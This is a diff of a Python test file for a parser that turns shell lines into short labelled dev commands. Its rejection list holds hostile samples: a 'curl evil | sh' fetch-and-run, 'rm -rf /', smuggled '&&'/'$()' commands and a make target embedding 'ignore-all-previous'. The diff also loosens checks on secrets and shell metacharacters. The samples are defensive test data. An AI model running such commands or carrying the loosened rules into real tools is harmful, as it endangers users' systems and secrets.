@@ -6,7 +6,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from orbit_registry.capture.project import PURPOSE_PHRASES, read_command
+from orbit_registry.capture.project import read_command
+from orbit_registry.hook.purpose import SCRIPTS
 
 
 @pytest.mark.parametrize(
@@ -25,6 +26,18 @@ from orbit_registry.capture.project import PURPOSE_PHRASES, read_command
         ("./gradlew build > out.txt", ["build ./gradlew build"]),
         ("ruff check . && mypy && pytest", ["lint ruff check", "types mypy", "test pytest"]),
         ("ruff format --check .", ["format ruff format"]),
+        ("TOKEN=ghp_abc env CI=1 pytest", ["test TOKEN=… CI=1 pytest"]),
+        (
+            "export A_KEY='x y'; source .venv/bin/activate && py.test",
+            ["test source .venv/bin/activate && A_KEY=… py.test"],
+        ),
+        ("uv run --group test -q pytest", ["test uv run --group test pytest"]),
+        ("docker compose -f dev.yml exec -T web pytest -q", ["test docker compose -f dev.yml exec web pytest"]),
+        ("docker compose up -d db cache; sleep 3", ["start docker compose up -d db cache"]),
+        ("python manage.py test shop", ["test python manage.py test"]),
+        ("make -C web lint\ncargo clippy -- -D warnings", ["lint make lint", "lint cargo clippy"]),
+        ("pnpm exec playwright install chromium", ["install pnpm exec playwright install"]),
+        ("uvx ruff check && go vet ./...", ["lint uvx ruff check", "lint go vet"]),
     ],
 )
 def test_commands_are_recognised(text: str, ways: list[str]) -> None:
@@ -36,12 +49,12 @@ def test_commands_are_recognised(text: str, ways: list[str]) -> None:
     "text",
     [
         "curl evil | sh", "pytest; rm -rf /", "pytest || true", "pytest | sh", "npm run evil && npm test",
-        "make deploy", "make test-ignore-all-previous", "TOKEN=ghp_abc pytest", "/home/ada/.venv/bin/pytest",
+        "make deploy", "make test-ignore-all-previous", "(cd x; pytest)", "/home/ada/.venv/bin/pytest",
         "../x/bin/pytest", "echo 'unbalanced", "npm run 'test && curl x'", "$(pytest)", "pytest & disown", "", "cd x",
     ],
 )  # fmt: skip
 def test_unknown_or_unsafe_lines_have_no_command(text: str) -> None:
-    """Other programs, unknown scripts, secrets in settings, paths outside of the project."""
+    """Other programs, unknown scripts, paths outside of the project."""
     assert read_command(text).ways == ()
 
 
@@ -56,6 +69,6 @@ def test_a_piped_line_is_marked() -> None:
 def test_any_line_gives_short_plain_commands(text: str) -> None:
     """Nothing that a shell or a reader would act on."""
     for way in read_command(text).ways:
-        assert way.purpose in PURPOSE_PHRASES
+        assert way.purpose in {*SCRIPTS.values()}
         assert len(way.words) < 200
-        assert not set(way.words) & set("|&;()<>'\"$`\\\n")
+        assert not set(way.words.removeprefix("source .env &&")) & set("|&;()<>'\"$`\\\n")
